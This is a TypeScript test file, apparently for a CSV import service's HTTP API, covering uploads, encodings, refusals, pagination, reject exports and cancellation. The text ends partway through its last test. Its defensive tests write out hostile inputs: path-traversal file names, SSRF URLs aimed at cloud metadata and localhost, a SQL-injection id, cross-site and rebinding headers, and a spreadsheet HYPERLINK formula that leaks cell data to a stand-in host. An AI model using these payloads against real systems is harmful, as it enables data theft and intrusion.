/**
 * The imports API in-process (app.inject) against real Postgres and the real job queue,
 * without workers (so accepted imports stay queued): the three ways in, the encoding and
 * delimiter each way in can give, every way an upload is refused (400, 413; a record that
 * never ends included), lookups (404), pagination, rejects streaming, cancel, and the
 * OpenAPI document describing what the routes answer.
 */
import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { ENCODING_LABELS, parseDelimiter, parseEncoding } from '../../src/formats/sniff.ts';
import { buildServer } from '../../src/http/server.ts';
import { partRowsSetting } from '../../src/intake/accept.ts';
import { importStatus } from '../../src/intake/index.ts';
import { failAbandonedPart } from '../../src/intake/part-job.ts';
import { sweepFinishedImports } from '../../src/intake/staging.ts';
import { checkSchema } from '../events/openapi-check.ts';
import { testDb, type TestDb } from '../helpers/db.ts';
import { leadsCsv, leftovers, multipart, startIntake, type Intake } from './http-helpers.ts';

let db: TestDb;
let intake: Intake;
let app: FastifyInstance;
before(async () => {
  db = await testDb();
  intake = await startIntake(db);
  app = await buildServer(intake.ctx);
});
after(async () => {
  await app.close();
  await intake.stop();
  await db.close();
});

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

function assertError(res: { statusCode: number; json(): unknown }, status: number, code: string, message?: RegExp) {
  assert.equal(res.statusCode, status, JSON.stringify(res.json()));
  const body = res.json() as { error: { code: string; message: string } };
  assert.deepEqual(Object.keys(body), ['error']);
  assert.equal(body.error.code, code);
  assert.equal(typeof body.error.message, 'string');
  if (message) assert.match(body.error.message, message);
}

async function importCount(): Promise<number> {
  const { rows } = await db.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM imports');
  return rows[0]!.n;
}

test('multipart upload: 202 with the status URL; the import is queued with its parts', async () => {
  const form = multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: 'first.csv', content: leadsCsv(30, 2) }]);
  const res = await app.inject({ method: 'POST', url: '/imports', ...form });
  assert.equal(res.statusCode, 202, res.body);
  const body = res.json();
  assert.match(body.id, UUID);
  assert.deepEqual(body, { id: body.id, status_url: `/imports/${body.id}` });
  assert.equal(res.headers.location, `/imports/${body.id}`);

  const status = await app.inject({ method: 'GET', url: body.status_url });
  assert.equal(status.statusCode, 200);
  const s = status.json();
  assert.equal(s.id, body.id);
  assert.equal(s.pipeline, 'leads');
  assert.equal(s.file_name, 'first.csv');
  assert.equal(s.status, 'queued');
  assert.equal(s.parts.total, 1);
  assert.equal(s.part_list.length, 1);
});

test('raw bodies: text/csv, text/plain and application/octet-stream with ?pipeline=', async () => {
  for (const type of ['text/csv', 'text/plain; charset=utf-8', 'application/octet-stream']) {
    const res = await app.inject({
      method: 'POST', url: '/imports?pipeline=leads&file_name=raw.csv', headers: { 'content-type': type }, payload: leadsCsv(5, 0, 'raw'),
    });
    assert.equal(res.statusCode, 202, `${type}: ${res.body}`);
    const s = (await app.inject({ method: 'GET', url: `/imports/${res.json().id}` })).json();
    assert.equal(s.file_name, 'raw.csv');
    assert.equal(s.status, 'queued');
  }
});

test('multipart: ?pipeline= works when the form has no pipeline field', async () => {
  const form = multipart([{ name: 'file', filename: 'q.csv', content: leadsCsv(3) }]);
  const res = await app.inject({ method: 'POST', url: '/imports?pipeline=leads', ...form });
  assert.equal(res.statusCode, 202, res.body);
});

/** The encoding and delimiter recorded for an import (what its parts will be read with). */
async function formatOf(res: { statusCode: number; body: string; json(): { id: string } }): Promise<{ encoding: string; delimiter: string | null }> {
  assert.equal(res.statusCode, 202, res.body);
  const { rows } = await db.pool.query<{ encoding: string; delimiter: string | null }>('SELECT encoding, delimiter FROM imports WHERE id = $1', [res.json().id]);
  return rows[0]!;
}

/**
 * One column, plain ASCII: detected as UTF-8, and no delimiter splits its lines, so the
 * sniffer falls back to ',' (what is recorded differs from that only when it was given).
 */
const ONE_COLUMN = 'Email\nana@example.com\nbia@example.com\n';

test('the encoding and delimiter given with an upload are recorded with its import: query, form fields, Content-Type charset', async () => {
  const raw = (query: string, type = 'text/csv') =>
    app.inject({ method: 'POST', url: `/imports?pipeline=leads${query}`, headers: { 'content-type': type }, payload: ONE_COLUMN });
  assert.deepEqual(await formatOf(await raw('')), { encoding: 'utf-8', delimiter: ',' }, 'detected and sniffed');
  assert.deepEqual(await formatOf(await raw('&encoding=windows-1252&delimiter=;')), { encoding: 'windows-1252', delimiter: ';' });
  // WHATWG labels, ASCII case-insensitive; a tab three ways.
  assert.deepEqual(await formatOf(await raw('&encoding=Latin1&delimiter=tab')), { encoding: 'windows-1252', delimiter: '\t' });
  assert.deepEqual(await formatOf(await raw('&encoding=US-ASCII&delimiter=%09')), { encoding: 'windows-1252', delimiter: '\t' });
  assert.deepEqual(await formatOf(await raw('&encoding=UTF8&delimiter=%5Ct')), { encoding: 'utf-8', delimiter: '\t' });
  assert.deepEqual(await formatOf(await raw('&delimiter=%7C')), { encoding: 'utf-8', delimiter: '|' });
  // A raw body's Content-Type charset is its encoding; with ?encoding= it must agree.
  assert.deepEqual(await formatOf(await raw('', 'text/csv; charset=windows-1252')), { encoding: 'windows-1252', delimiter: ',' });
  assert.deepEqual(await formatOf(await raw('', 'text/plain; format=x; Charset="ISO-8859-1"')), { encoding: 'windows-1252', delimiter: ',' });
  assert.deepEqual(await formatOf(await raw('&encoding=cp1252', 'text/csv; charset=latin1')), { encoding: 'windows-1252', delimiter: ',' });
  assert.deepEqual(await formatOf(await raw('', 'text/plain; charset=utf-8')), { encoding: 'utf-8', delimiter: ',' });

  const file = { name: 'file', filename: 'one.csv', content: ONE_COLUMN };
  const form = (parts: Parameters<typeof multipart>[0], query = '') => app.inject({ method: 'POST', url: `/imports${query}`, ...multipart(parts) });
  const fields = (encoding: string, delimiter: string) => [{ name: 'encoding', value: encoding }, { name: 'delimiter', value: delimiter }];
  assert.deepEqual(await formatOf(await form([{ name: 'pipeline', value: 'leads' }, ...fields('windows-1252', '|'), file])), { encoding: 'windows-1252', delimiter: '|' });
  assert.deepEqual(await formatOf(await form([file], '?pipeline=leads&encoding=iso-8859-1&delimiter=;')), { encoding: 'windows-1252', delimiter: ';' });
  // A form field wins over the query string, as for pipeline (an empty field is not given).
  assert.deepEqual(await formatOf(await form([...fields('cp1252', '|'), file], '?pipeline=leads&encoding=utf-8&delimiter=;')), { encoding: 'windows-1252', delimiter: '|' });
  assert.deepEqual(await formatOf(await form([...fields('', ''), file], '?pipeline=leads&encoding=latin1&delimiter=;')), { encoding: 'windows-1252', delimiter: ';' });
  // Fields after the file are not read (the file is streamed before they arrive).
  assert.deepEqual(await formatOf(await form([{ name: 'pipeline', value: 'leads' }, file, ...fields('windows-1252', ';')])), { encoding: 'utf-8', delimiter: ',' });
});

test('the encoding and delimiter of a {"url"} import are recorded with it', async () => {
  const files = http.createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/csv' }).end(ONE_COLUMN));
  await new Promise<void>((resolve) => files.listen(0, '127.0.0.1', resolve));
  process.env.SLUICE_FETCH_ALLOW_PRIVATE = '1'; // the file server is on 127.0.0.1
  try {
    const url = `http://127.0.0.1:${(files.address() as AddressInfo).port}/one.csv`;
    const json = (body: object) => app.inject({ method: 'POST', url: '/imports', headers: { 'content-type': 'application/json' }, payload: body });
    assert.deepEqual(await formatOf(await json({ pipeline: 'leads', url })), { encoding: 'utf-8', delimiter: ',' });
    assert.deepEqual(await formatOf(await json({ pipeline: 'leads', url, encoding: 'Windows-1252', delimiter: ';' })), { encoding: 'windows-1252', delimiter: ';' });
    assert.deepEqual(await formatOf(await json({ pipeline: 'leads', url, delimiter: 'tab' })), { encoding: 'utf-8', delimiter: '\t' });
  } finally {
    delete process.env.SLUICE_FETCH_ALLOW_PRIVATE;
    await new Promise((resolve) => files.close(resolve));
  }
});

test('a bad encoding or delimiter, a charset that disagrees, a delimiter for a fixed-width pipeline: 400 and no import row', async () => {
  const before = await importCount();
  const raw = (url: string, type = 'text/csv', payload: string | Buffer = ONE_COLUMN) => app.inject({ method: 'POST', url, headers: { 'content-type': type }, payload });
  const badEncoding = /^encoding must be utf-8 or windows-1252 \(or a WHATWG label of either, such as utf8, latin1, iso-8859-1, cp1252 or us-ascii\), got /;
  const badDelimiter = /^delimiter must be one of , ; tab \|, got /;
  for (const e of ['utf-16', 'iso-8859-15', 'ebcdic', 'utf_8', '%E2%80%8Butf-8']) assertError(await raw(`/imports?pipeline=leads&encoding=${e}`), 400, 'invalid_input', badEncoding);
  for (const d of ['x', '%3B%3B', '%22', '%0A', 'TAB', '%20']) assertError(await raw(`/imports?pipeline=leads&delimiter=${d}`), 400, 'invalid_input', badDelimiter);
  assertError(await raw('/imports?pipeline=leads&encoding=utf-8&encoding=latin1'), 400, 'invalid_input', /^encoding must be given once$/);
  // Content-Type charset and ?encoding=: two answers that differ are refused, not one picked.
  assertError(await raw('/imports?pipeline=leads&encoding=utf-8', 'text/csv; charset=windows-1252'), 400, 'invalid_input',
    /^encoding utf-8 disagrees with the Content-Type charset "windows-1252" \(windows-1252\): give one, or the same encoding in both$/);
  assertError(await raw('/imports?pipeline=leads&encoding=latin1', 'text/plain; charset=UTF-8'), 400, 'invalid_input', /disagrees/);
  assertError(await raw('/imports?pipeline=leads', 'text/csv; charset=utf-16'), 400, 'invalid_input',
    /^the Content-Type charset "utf-16" is not an encoding Sluice reads: send the file as utf-8 or windows-1252$/);
  assertError(await raw('/imports?pipeline=leads&encoding=windows-1252', 'text/csv; charset=iso-8859-15'), 400, 'invalid_input', /not an encoding Sluice reads/);
  // A given encoding that the file's first bytes contradict is refused before the 202.
  assertError(await raw('/imports?pipeline=leads&encoding=utf-8', 'text/csv', Buffer.from(`${ONE_COLUMN}josé@example.com\n`, 'latin1')), 400, 'invalid_file',
    /^invalid file: it was sent as utf-8, but its first bytes are not valid UTF-8; save the file as UTF-8, or send it with encoding=windows-1252$/);
  assertError(await raw('/imports?pipeline=leads', 'text/csv; charset=latin1', Buffer.from(`\uFEFF${ONE_COLUMN}`)), 400, 'invalid_file', /starts with a UTF-8 byte order mark/);

  const file = { name: 'file', filename: 'one.csv', content: ONE_COLUMN };
  const form = (parts: Parameters<typeof multipart>[0], query = '') => app.inject({ method: 'POST', url: `/imports${query}`, ...multipart(parts) });
  assertError(await form([{ name: 'pipeline', value: 'leads' }, { name: 'encoding', value: 'klingon' }, file]), 400, 'invalid_input', badEncoding);
  assertError(await form([{ name: 'pipeline', value: 'leads' }, { name: 'delimiter', value: '::' }, file]), 400, 'invalid_input', badDelimiter);
  // The form's bad value wins over a good one in the query, as a good one would.
  assertError(await form([{ name: 'encoding', value: 'utf-7' }, file], '?pipeline=leads&encoding=utf-8'), 400, 'invalid_input', badEncoding);

  const json = (body: object) => app.inject({ method: 'POST', url: '/imports', headers: { 'content-type': 'application/json' }, payload: body });
  // 169.254.169.254 would be refused as non-public: these are refused before the URL is looked at.
  const url = 'http://169.254.169.254/one.csv';
  assertError(await json({ pipeline: 'leads', url, encoding: 'koi8-r' }), 400, 'invalid_input', badEncoding);
  assertError(await json({ pipeline: 'leads', url, encoding: 1252 }), 400, 'invalid_input', /^"encoding" must be a string$/);
  assertError(await json({ pipeline: 'leads', url, delimiter: ',,' }), 400, 'invalid_input', badDelimiter);
  assertError(await json({ pipeline: 'leads', url, delimiter: null }), 400, 'invalid_input', /^"delimiter" must be a string$/);

  // purchases reads fixed-width files: a delimiter means nothing there, every way in.
  const fixedWidth = /^delimiter is for CSV files: the purchases pipeline reads fixed-width files, whose columns are not delimited$/;
  assertError(await raw('/imports?pipeline=purchases&delimiter=;'), 400, 'invalid_input', fixedWidth);
  assertError(await form([{ name: 'pipeline', value: 'purchases' }, { name: 'delimiter', value: '|' }, file]), 400, 'invalid_input', fixedWidth);
  assertError(await json({ pipeline: 'purchases', url, delimiter: 'tab' }), 400, 'invalid_input', fixedWidth);

  assert.equal(await importCount(), before, 'refused uploads leave no import rows');
});

test('parseEncoding reads every WHATWG label of UTF-8 and windows-1252 as TextDecoder does, and no other; parseDelimiter is the CLI\'s rule', () => {
  for (const [encoding, labels] of Object.entries(ENCODING_LABELS)) {
    for (const label of labels) {
      assert.equal(new TextDecoder(label).encoding, encoding, label);
      assert.equal(parseEncoding(label), encoding, label);
      assert.equal(parseEncoding(` ${label.toUpperCase()}\t`), encoding, label);
    }
  }
  for (const label of ['utf-16', 'utf-16le', 'iso-8859-15', 'windows-1250', 'latin2', 'x-user-defined', 'utf-8 bom', '', 'utf\u200b8']) {
    assert.equal(parseEncoding(label), undefined, label);
  }
  assert.equal(parseEncoding('latın1'), undefined, 'ASCII case-insensitive only (ı is not i)');
  assert.deepEqual([',', ';', '|', '\t', 'tab', '\\t'].map(parseDelimiter), [',', ';', '|', '\t', '\t', '\t']);
  for (const d of ['', ' ', 'Tab', ',;', '"', '\n', ':', 'x']) assert.equal(parseDelimiter(d), undefined, JSON.stringify(d));
});

test('file names are recorded as text only: no directories, no control characters; a form of 10 text fields is read whole', async () => {
  const form = multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: '../../etc/pass\twd.csv', content: leadsCsv(2) }]);
  const res = await app.inject({ method: 'POST', url: '/imports', ...form });
  assert.equal(res.statusCode, 202, res.body);
  const s = (await app.inject({ method: 'GET', url: `/imports/${res.json().id}` })).json();
  assert.equal(s.file_name, 'passwd.csv');
  // The same rule for a raw body's ?file_name= (it kept the directories).
  for (const [name, recorded] of [['../../etc/pa%0Assw%01d.csv', 'passwd.csv'], ['C:%5CUsers%5Cana%5Cleads.csv', 'leads.csv'], ['dir/', null]] as const) {
    const raw = await app.inject({ method: 'POST', url: `/imports?pipeline=leads&file_name=${name}`, headers: { 'content-type': 'text/csv' }, payload: leadsCsv(2) });
    assert.equal(raw.statusCode, 202, raw.body);
    assert.equal((await app.inject({ method: 'GET', url: `/imports/${raw.json().id}` })).json().file_name, recorded, name);
  }
  // A form of exactly 10 text fields (the limit) is read whole.
  const ten = [...Array.from({ length: 9 }, (_, i) => ({ name: `x${i}`, value: 'y' })), { name: 'pipeline', value: 'leads' }];
  const full = await app.inject({ method: 'POST', url: '/imports', ...multipart([...ten, { name: 'file', filename: 'ten.csv', content: leadsCsv(2) }]) });
  assert.equal(full.statusCode, 202, full.body);
});

test('bad uploads are refused with 400 and leave no import behind', async () => {
  const before = await importCount();
  const raw = (url: string, payload: string | Buffer, type = 'text/csv') =>
    app.inject({ method: 'POST', url, headers: { 'content-type': type }, payload });

  assertError(await raw('/imports?pipeline=leads', ''), 400, 'invalid_file');
  assertError(await app.inject({ method: 'POST', url: '/imports?pipeline=leads' }), 400, 'invalid_file');
  assertError(await raw('/imports?pipeline=nope', leadsCsv(3)), 400, 'invalid_input', /unknown pipeline/);
  assertError(await raw('/imports', leadsCsv(3)), 400, 'invalid_input', /pipeline is required/);
  assertError(await raw('/imports?pipeline=leads&pipeline=leads', leadsCsv(3)), 400, 'invalid_input', /once/);
  // Garbage: random bytes (NULs and all) are not a text file.
  assertError(await raw('/imports?pipeline=leads', randomBytes(64 * 1024), 'application/octet-stream'), 400, 'invalid_file');
  // A header and no rows; a file without the key column.
  assertError(await raw('/imports?pipeline=leads', 'Email,Name\n'), 400, 'invalid_file');
  assertError(await raw('/imports?pipeline=leads', 'Name,City\nAna,Recife\n'), 400, 'invalid_file', /email/);
  // A quote opened on line 3 and never closed swallows the rest of the file: refused once
  // that "record" passes 16 MiB, instead of held in memory whole.
  const unclosed = Buffer.concat([Buffer.from(`${leadsCsv(1)}x@example.com,"Ana\n`), Buffer.alloc(17 * 1024 * 1024, 'more text,\n')]);
  assertError(await raw('/imports?pipeline=leads', unclosed), 400, 'invalid_file', /^invalid file: the record that starts on line 3 is longer than 16777216 bytes: a quote is never closed$/);

  const form = (parts: Parameters<typeof multipart>[0]) => app.inject({ method: 'POST', url: '/imports', ...multipart(parts) });
  assertError(await form([{ name: 'pipeline', value: 'leads' }]), 400, 'invalid_input', /no file/);
  assertError(await form([{ name: 'file', filename: 'a.csv', content: leadsCsv(2) }, { name: 'pipeline', value: 'leads' }]), 400, 'invalid_input', /before the file/);
  assertError(await form([{ name: 'pipeline', value: 'leads' }, { name: 'upload', filename: 'a.csv', content: leadsCsv(2) }]), 400, 'invalid_input', /named "file"/);
  // Past the form's 10 text fields the parser skips fields (a "pipeline" among them): refused,
  // as is a field it would truncate. Exactly 10 fields pass.
  const extra = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `x${i}`, value: 'y' }));
  const file = { name: 'file', filename: 'a.csv', content: leadsCsv(2) };
  assertError(await form([...extra(10), { name: 'pipeline', value: 'leads' }, file]), 400, 'invalid_input', /^the form has more than 10 text fields: send only "pipeline", "encoding", "delimiter" and "max_reject_ratio", then the file$/);
  assertError(await app.inject({ method: 'POST', url: '/imports?pipeline=leads', ...multipart([...extra(11), file]) }), 400, 'invalid_input', /more than 10 text fields/);
  assertError(await form([{ name: 'pipeline', value: 'leads' }, { name: 'note', value: 'z'.repeat(5000) }, file]), 400, 'invalid_input', /^form field "note" is longer than 4096 bytes$/);
  assertError(await form([{ name: 'pipeline', value: 'shoes' }, { name: 'file', filename: 'a.csv', content: leadsCsv(2) }]), 400, 'invalid_input', /unknown pipeline/);
  assertError(await form([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: 'a.bin', content: randomBytes(4096) }]), 400, 'invalid_file');
  const broken = await app.inject({
    method: 'POST', url: '/imports', headers: { 'content-type': 'multipart/form-data; boundary=xyz' }, payload: 'this is not multipart',
  });
  assert.equal(broken.statusCode, 400, broken.body);

  const json = (payload: unknown) => app.inject({ method: 'POST', url: '/imports', payload: payload as object, headers: { 'content-type': 'application/json' } });
  assertError(await json({ pipeline: 'leads' }), 400, 'invalid_input', /url/);
  assertError(await json({ pipeline: 'leads', url: 'ftp://127.0.0.1/x.csv' }), 400, 'invalid_input', /http/);
  assertError(await json({ pipeline: 'leads', url: 'not a url' }), 400, 'invalid_input');
  // Nothing on this machine or its private network is fetched for a user (SSRF).
  assertError(await json({ pipeline: 'leads', url: 'http://169.254.169.254/latest/meta-data/' }), 400, 'invalid_input', /non-public address: refused/);
  assertError(await json({ pipeline: 'leads', url: 'http://localhost:5432/' }), 400, 'invalid_input', /leads to localhost, /);
  // An unknown pipeline is refused before the URL is fetched (the refusal above would come first otherwise).
  assertError(await json({ pipeline: 'shoes', url: 'http://169.254.169.254/' }), 400, 'invalid_input', /unknown pipeline/);
  assertError(await json([1, 2]), 400, 'invalid_input');
  assertError(await app.inject({ method: 'POST', url: '/imports', headers: { 'content-type': 'application/json' }, payload: '{nope' }), 400, 'invalid_input');

  assert.equal(await importCount(), before, 'refused uploads leave no import rows');
});

test('uploads above SLUICE_MAX_UPLOAD_BYTES get 413 too_large (raw and multipart)', async () => {
  process.env.SLUICE_MAX_UPLOAD_BYTES = '2000';
  const small = await buildServer(intake.ctx);
  delete process.env.SLUICE_MAX_UPLOAD_BYTES;
  try {
    const before = await importCount();
    const big = leadsCsv(200);
    assert.ok(big.length > 2000);
    const raw = await small.inject({ method: 'POST', url: '/imports?pipeline=leads', headers: { 'content-type': 'text/csv' }, payload: big });
    assertError(raw, 413, 'too_large');
    const form = await small.inject({
      method: 'POST', url: '/imports', ...multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: 'big.csv', content: big }]),
    });
    assertError(form, 413, 'too_large');
    // Under the limit still passes.
    const ok = await small.inject({ method: 'POST', url: '/imports?pipeline=leads', headers: { 'content-type': 'text/csv' }, payload: leadsCsv(5, 0, 'small') });
    assert.equal(ok.statusCode, 202, ok.body);
    assert.equal(await importCount(), before + 1);
  } finally {
    await small.close();
  }
});

test('GET /imports/:id: 404 for an unknown id and for anything not a UUID', async () => {
  assertError(await app.inject({ method: 'GET', url: `/imports/${randomUUID()}` }), 404, 'not_found');
  assertError(await app.inject({ method: 'GET', url: '/imports/123' }), 404, 'not_found');
  assertError(await app.inject({ method: 'GET', url: "/imports/'%3B%20drop%20table%20imports" }), 404, 'not_found');
  assertError(await app.inject({ method: 'GET', url: `/imports/${randomUUID()}/rejects` }), 404, 'not_found');
  assertError(await app.inject({ method: 'POST', url: `/imports/${randomUUID()}/cancel` }), 404, 'not_found');
  assertError(await app.inject({ method: 'POST', url: '/imports/nope/cancel' }), 404, 'not_found');
});

test('GET /imports pages newest first with an opaque cursor; limit is 1..100, default 20', async () => {
  await db.pool.query(
    `INSERT INTO imports (pipeline, file_name, status, created_at)
     SELECT 'leads', 'page-' || g, 'completed', now() - g * interval '1 minute' FROM generate_series(1, 45) g`,
  );
  // Five created within one millisecond (concurrent uploads): the cursor keeps microseconds.
  await db.pool.query(
    `INSERT INTO imports (pipeline, file_name, status, created_at)
     SELECT 'leads', 'same-ms-' || g, 'completed', '2026-01-01 00:00:00.123000+00'::timestamptz + g * interval '1 microsecond' FROM generate_series(1, 5) g`,
  );
  const { rows } = await db.pool.query<{ id: string }>('SELECT id FROM imports ORDER BY created_at DESC, id DESC');
  const first = await app.inject({ method: 'GET', url: '/imports' });
  assert.equal(first.statusCode, 200);
  assert.equal(first.json().imports.length, 20);

  const seen: string[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const url: string = `/imports?limit=7${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
    const res = await app.inject({ method: 'GET', url });
    assert.equal(res.statusCode, 200, res.body);
    const page = res.json() as { imports: Array<{ id: string }>; next_cursor: string | null };
    assert.ok(page.imports.length <= 7);
    seen.push(...page.imports.map((i) => i.id));
    cursor = page.next_cursor;
    pages++;
  } while (cursor && pages < 100);
  assert.deepEqual(seen, rows.map((r) => r.id), 'every import once, newest first');

  for (const bad of ['0', '101', '-1', 'ten', '1.5']) {
    assertError(await app.inject({ method: 'GET', url: `/imports?limit=${bad}` }), 400, 'invalid_input', /limit/);
  }
  assert.equal((await app.inject({ method: 'GET', url: '/imports?limit=100' })).json().imports.length, 100 > rows.length ? rows.length : 100);
  assertError(await app.inject({ method: 'GET', url: '/imports?cursor=garbage' }), 400, 'invalid_input', /cursor/);
  // A time Date.parse accepts and Postgres does not: 400, not a database error.
  const odd = Buffer.from(`Tuesday 5|${randomUUID()}`).toString('base64url');
  assertError(await app.inject({ method: 'GET', url: `/imports?cursor=${odd}` }), 400, 'invalid_input', /cursor/);
});

test('writes from a page of another site are refused (CSRF); without a token only loopback Host names are served', async () => {
  const raw = (headers: Record<string, string>) =>
    app.inject({ method: 'POST', url: '/imports?pipeline=leads&file_name=x.csv', headers: { 'content-type': 'text/plain', ...headers }, payload: leadsCsv(2) });
  const before = await importCount();
  const crossSite: Array<Record<string, string>> = [
    { origin: 'http://evil.example' },
    { origin: 'http://127.0.0.1:18300' }, // another port: another origin
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site' },
  ];
  for (const headers of crossSite) assertError(await raw(headers), 403, 'forbidden', /another site/);
  assertError(await app.inject({ method: 'POST', url: `/imports/${randomUUID()}/cancel`, headers: { 'sec-fetch-site': 'cross-site' } }), 403, 'forbidden');
  assert.equal(await importCount(), before, 'nothing created');
  // The dashboard's own requests (same origin) and clients that are not browsers pass.
  assert.equal((await raw({ origin: 'http://localhost:80', 'sec-fetch-site': 'same-origin' })).statusCode, 202);
  assert.equal((await raw({})).statusCode, 202);
  // DNS rebinding: a name that is not loopback is refused, for reads too.
  assertError(await app.inject({ method: 'GET', url: '/imports', headers: { host: 'attacker.example:8080' } }), 403, 'forbidden', /loopback names only/);
  for (const host of ['127.0.0.1:8080', 'localhost', '[::1]:8080']) {
    assert.equal((await app.inject({ method: 'GET', url: '/imports', headers: { host } })).statusCode, 200, host);
  }
});

test('GET /imports/:id/rejects streams every reject in line order as CSV or NDJSON', async () => {
  const { rows } = await db.pool.query<{ id: string }>(`INSERT INTO imports (pipeline, status) VALUES ('leads', 'completed') RETURNING id`);
  const id = rows[0]!.id;
  // 12,001 rejects: more than two pages of the route's 5,000-row reads; inserted out of order.
  await db.pool.query(
    `INSERT INTO import_rejects (import_id, line, field, reason, raw)
     SELECT $1, g, CASE WHEN g % 2 = 0 THEN 'state' END, 'email: not an email: "x' || g || '"', 'x' || g || ',"a, b"'
       FROM generate_series(12002, 2, -1) g`,
    [id],
  );
  const csv = await app.inject({ method: 'GET', url: `/imports/${id}/rejects` });
  assert.equal(csv.statusCode, 200);
  assert.match(csv.headers['content-type'] as string, /^text\/csv/);
  assert.equal(csv.headers['content-disposition'], `attachment; filename="rejects-${id}.csv"`);
  const lines = csv.body.split('\r\n');
  assert.equal(lines[0], 'line,field,reason,raw');
  assert.equal(lines.length, 1 + 12_001 + 1, 'header, rows, trailing empty');
  assert.equal(lines[1], '2,state,"email: not an email: ""x2""","x2,""a, b"""');
  assert.equal(lines[2], '3,,"email: not an email: ""x3""","x3,""a, b"""');
  assert.equal(lines[12_001]!.split(',')[0], '12002');

  const nd = await app.inject({ method: 'GET', url: `/imports/${id}/rejects?format=ndjson&limit=100` });
  assert.equal(nd.statusCode, 200);
  assert.match(nd.headers['content-type'] as string, /^application\/x-ndjson/);
  assert.equal(nd.headers['content-disposition'], undefined);
  const objs = nd.body.trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(objs.length, 100);
  assert.deepEqual(objs[0], { line: 2, field: 'state', reason: 'email: not an email: "x2"', raw: 'x2,"a, b"' });
  assert.equal(objs[99].line, 101);

  const all = await app.inject({ method: 'GET', url: `/imports/${id}/rejects?format=ndjson` });
  assert.equal(all.body.trim().split('\n').length, 12_001);
  // Cells a spreadsheet would run as formulas get a ' in front in CSV; NDJSON keeps the text.
  const { rows: f } = await db.pool.query<{ id: string }>(`INSERT INTO imports (pipeline, status) VALUES ('leads', 'completed') RETURNING id`);
  await db.pool.query(
    `INSERT INTO import_rejects (import_id, line, field, reason, raw) VALUES
       ($1, 2, NULL, 'email: not an email: "=1+1"', '=HYPERLINK("http://evil/?"&A1),Bob'), ($1, 3, NULL, '-x', '+1'), ($1, 4, NULL, 'ok', '@SUM(A1)')`,
    [f[0]!.id],
  );
  const formulas = (await app.inject({ method: 'GET', url: `/imports/${f[0]!.id}/rejects` })).body.split('\r\n');
  assert.deepEqual(formulas.slice(1, 4), [
    `2,,"email: not an email: ""=1+1""","'=HYPERLINK(""http://evil/?""&A1),Bob"`,
    `3,,'-x,'+1`,
    `4,,ok,'@SUM(A1)`,
  ]);
  const exact = (await app.inject({ method: 'GET', url: `/imports/${f[0]!.id}/rejects?format=ndjson` })).body.trim().split('\n');
  assert.equal(JSON.parse(exact[0]!).raw, '=HYPERLINK("http://evil/?"&A1),Bob');
  assertError(await app.inject({ method: 'GET', url: `/imports/${id}/rejects?format=xml` }), 400, 'invalid_input', /format/);
  assertError(await app.inject({ method: 'GET', url: `/imports/${id}/rejects?limit=0` }), 400, 'invalid_input', /limit/);
});

/** An import's staging tables and the parts still holding their bytes. */
const leftOf = (id: string) => leftovers(db, id);

test('POST /imports/:id/cancel cancels a queued import and drops its staging and every part\'s bytes; again is a no-op', async () => {
  const form = multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: 'cancel-me.csv', content: leadsCsv(10) }]);
  const { id } = (await app.inject({ method: 'POST', url: '/imports', ...form })).json();
  // A part already staged keeps its bytes until the import is over.
  await db.pool.query(`UPDATE import_parts SET status = 'completed' WHERE import_id = $1 AND n = 0`, [id]);
  assert.deepEqual(await leftOf(id), { tables: 1, bytes: 1 });
  const res = await app.inject({ method: 'POST', url: `/imports/${id}/cancel` });
  assert.deepEqual(await leftOf(id), { tables: 0, bytes: 0 });
  assert.equal(res.statusCode, 200, res.body);
  assert.equal(res.json().id, id);
  assert.equal(res.json().status, 'cancelled');
  const again = await app.inject({ method: 'POST', url: `/imports/${id}/cancel` });
  assert.equal(again.statusCode, 200);
  assert.equal(again.json().status, 'cancelled');
});
test('a starting server drops what imports that are over left behind (a died process, older versions), not what running ones hold', async () => {
  const upload = async (name: string) =>
    (await app.inject({ method: 'POST', url: '/imports', ...multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: name, content: leadsCsv(10) }]) })).json().id as string;
  const [failed, done, running] = [await upload('failed.csv'), await upload('done.csv'), await upload('running.csv')];
  await db.pool.query(`UPDATE imports SET status = 'failed' WHERE id = $1`, [failed]);
  await db.pool.query(`UPDATE imports SET status = 'completed' WHERE id = $1`, [done]);
  await db.pool.query(`CREATE TABLE ${`sluice_stage_${failed.replace(/-/g, '')}_p0`} (x int)`);
  assert.deepEqual(await leftOf(failed), { tables: 2, bytes: 1 });
  const swept = await sweepFinishedImports(db.pool);
  assert.ok(swept.tables >= 3 && swept.parts >= 2, JSON.stringify(swept));
  assert.deepEqual([await leftOf(failed), await leftOf(done), await leftOf(running)], [{ tables: 0, bytes: 0 }, { tables: 0, bytes: 0 }, { tables: 1, bytes: 1 }]);
  await app.inject({ method: 'POST', url: `/imports/${running}/cancel` });
});

test('a part the queue gave up on fails its import, unless the part had completed (its worker died after the commit)', async () => {
  const upload = async (name: string) =>
    (await app.inject({ method: 'POST', url: '/imports', ...multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: name, content: leadsCsv(10) }]) })).json().id as string;
  const staged = await upload('staged.csv');
  await db.pool.query(`UPDATE import_parts SET status = 'completed' WHERE import_id = $1 AND n = 0`, [staged]);
  assert.equal(await failAbandonedPart(db.pool, staged, 0, 'its worker stopped (job heartbeat timeout)', 5), false);
  assert.equal((await importStatus(db.pool, staged))?.status, 'queued', 'a staged part does not fail its import');
  const lost = await upload('lost.csv');
  assert.equal(await failAbandonedPart(db.pool, lost, 0, 'its worker stopped (job heartbeat timeout)', 5), true);
